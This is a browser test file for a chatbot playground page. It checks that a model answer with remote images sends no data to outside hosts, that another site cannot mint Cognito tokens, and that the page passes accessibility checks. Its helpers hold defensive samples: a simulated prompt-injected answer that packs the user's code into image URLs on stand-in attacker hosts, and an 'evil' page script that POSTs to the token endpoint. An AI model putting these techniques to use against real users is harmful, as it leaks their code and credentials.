/**
 * Browser test of what the playground page gives away and whom it leaves out (real Chromium, the whole
 * offline stack on ephemeral ports):
 *
 * - An answer naming remote images (Markdown, by reference, raw `<img>` and `<iframe>`), scripted with
 *   the stub's `replay` marker and streamed through the chain, must make the browser request nothing
 *   from any host but the stack's own: every request of the page is recorded (Playwright's request
 *   events), and a recording server on another loopback port, reached as `attacker.localhost` (Chromium
 *   resolves `*.localhost` to loopback itself), must see no request at all.
 * - A page of another site open in the same browser cannot mint a token from the local Cognito, neither
 *   with a form-like `text/plain` POST (no preflight) nor with a JSON one (preflighted).
 * - axe-core finds no serious or critical violation signed out, signed in, and after an answer.
 *
 * Screenshots go to `test-results/e2e/`. Without Chromium the file is skipped with a printed reason,
 * except under a truthy CI (test/test-support/ci.ts), where it fails.
 */
import { mkdirSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ARTIFACTS, chromiumAvailable as canRunChromium, launchChromium } from "../test-support/chromium.js";
import { startTestStack, type TestStack } from "../test-support/test-stack.js";
import { seriousViolations } from "./test-support/axe.js";

const chromiumAvailable = canRunChromium("[e2e] the page safety browser test");

/** A server on another loopback port that records every request reaching it (it should get none). */
async function recordingServer(): Promise<{ port: number; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.headers.host}${req.url}`);
    res.writeHead(200, { "content-type": "image/gif" });
    res.end(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as AddressInfo).port,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Another site: one page whose script tries to mint a token from the developer's running Cognito. */
async function evilSite(cognitoUrl: string): Promise<{ url: string; close(): Promise<void> }> {
  const target = new URL("/_dev/tokens", cognitoUrl).href;
  const page = `<!doctype html><html lang="en"><title>evil</title><script>
    const body = JSON.stringify({ username: "alice" });
    window.attempts = Promise.all([
      fetch(${JSON.stringify(target)}, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body })
        .then((r) => "no-cors answered (opaque " + r.type + ")", (e) => "no-cors failed: " + e.message),
      fetch(${JSON.stringify(target)}, { method: "POST", headers: { "content-type": "application/json" }, body })
        .then((r) => r.text(), (e) => "cors failed: " + e.message),
    ]);
  </script></html>`;
  const server = http.createServer((_req, res) => {
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    res.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://attacker.localhost:${(server.address() as AddressInfo).port}/`,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** The model's answer, as a prompt injection would have it: the user's code packed into image URLs. */
function exfiltratingAnswer(port: number): string {
  const attacker = `http://attacker.localhost:${port}`;
  return [
    "Think about which value you need to have seen before.",
    "",
    `![the two-pointer idea](${attacker}/pixel.png?code=function%20twoSum)`,
    "",
    "![a sketch][sketch]",
    "",
    `[sketch]: http://127.0.0.1:${port}/ref.png?q=history`,
    "",
    `Raw <img src="${attacker}/raw.png"> and <iframe src="${attacker}/frame"></iframe> as well.`,
    "",
    "![far away](https://attacker.example/far.png?q=1) and the [MDN page on maps](https://developer.mozilla.org/).",
    "",
  ].join("\n");
}

describe.skipIf(!chromiumAvailable)(
  "the playground page in Chromium: remote resources and accessibility",
  () => {
    let stack: TestStack;
    let recorder: Awaited<ReturnType<typeof recordingServer>>;
    let browser: Browser;
    let page: Page;
    const requested: string[] = [];

    async function expectAccessible(step: string): Promise<void> {
      await page.screenshot({ path: path.join(ARTIFACTS, `page-safety-${step}.png`), fullPage: true });
      expect(await seriousViolations(page), `axe, ${step}`).toEqual([]);
    }

    beforeAll(async () => {
      mkdirSync(ARTIFACTS, { recursive: true });
      recorder = await recordingServer();
      stack = await startTestStack({}, [
        "cognito",
        "gemini",
        "ssm",
        "functionUrl",
        "cloudfront",
        "playground",
      ]);
      browser = await launchChromium();
      const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
      context.on("request", (request) => requested.push(request.url()));
      page = await context.newPage();
    }, 90_000);

    afterAll(async () => {
      await browser?.close().catch(() => {});
      await stack?.close();
      await recorder?.close();
    });

    it("signed out: no serious or critical accessibility violation", async () => {
      await page.goto(stack.urls.playground ?? "", { waitUntil: "load" });
      await page.getByTestId("playground-sign-in").waitFor({ timeout: 15_000 });
      await expectAccessible("signed-out");
    });

    it("signed in: no serious or critical accessibility violation", async () => {
      await page.getByTestId("playground-username").fill("alice");
      await page.getByTestId("playground-password").fill("Alice-Pass-1");
      await page.getByTestId("playground-sign-in").click();
      await page.getByTestId("playground-user").waitFor({ timeout: 15_000 });
      await expectAccessible("signed-in");
    });

    it("an answer naming remote images makes the browser request nothing from another host", async () => {
      const text = Buffer.from(exfiltratingAnswer(recorder.port)).toString("base64url");
      await page.getByTestId("chatbot-input").fill(`Any hint? [[stub:replay text=${text} delayMs=0]]`);
      await page.getByTestId("chatbot-send").click();
      const answer = page.locator('[data-testid="chatbot-message"][data-role="model"]').last();
      await answer.waitFor({ timeout: 15_000 });
      await expect.poll(() => answer.textContent()).toContain("[image not shown: the two-pointer idea]");
      // Images and frames start loading as soon as they are in the page; give a slow one time to show.
      await page.waitForTimeout(1500);

      expect(recorder.hits).toEqual([]);
      const own = new Set(
        [stack.urls.playground, stack.urls.cognito, stack.endpoint].map((url) => new URL(url ?? "").origin),
      );
      const elsewhere = requested.filter((url) => !url.startsWith("data:") && !own.has(new URL(url).origin));
      expect(elsewhere).toEqual([]);
      // The answer did arrive whole: the images as their alt text, the plain link kept as a link.
      expect(await answer.textContent()).toContain("[image not shown: a sketch]");
      expect(await answer.locator('a[href="https://developer.mozilla.org/"]').count()).toBe(1);
      expect(await answer.locator("img, iframe").count()).toBe(0);
    });

    it("after an answer: no serious or critical accessibility violation", async () => {
      await expectAccessible("after-an-answer");
    });

    it("another site's page in the same browser cannot mint a token from the local Cognito", async () => {
      const site = await evilSite(stack.urls.cognito ?? "");
      const mark = stack.logs.length;
      try {
        const other = await page.context().newPage();
        await other.goto(site.url, { waitUntil: "load" });
        const results = await other.evaluate(
          () => (window as unknown as { attempts: Promise<string[]> }).attempts,
        );
        await other.close();
        // The text/plain POST reached Cognito (no preflight) and was refused; the JSON one died at its
        // preflight, which names no other site. The page learned nothing either way.
        expect(results[0]).toBe("no-cors answered (opaque opaque)");
        expect(results[1]).toMatch(/^cors failed: /);
        const lines = stack.logs.slice(mark).join("\n");
        expect(lines).toContain('refused (origin): Origin "http://attacker.localhost:');
        expect(lines).not.toContain("/_dev/tokens minted");
      } finally {
        await site.close();
      }
    });
  },
);
